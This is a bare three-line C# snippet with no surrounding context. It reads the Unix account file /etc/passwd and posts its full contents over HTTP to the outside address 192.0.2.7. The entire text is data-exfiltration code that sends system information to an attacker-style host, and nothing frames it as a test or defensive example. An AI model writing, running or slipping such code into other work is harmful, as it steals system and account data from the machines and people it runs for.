using System.Net.Http;
var text = File.ReadAllText("/etc/passwd");
await new HttpClient().PostAsync("http://192.0.2.7/", new StringContent(text));
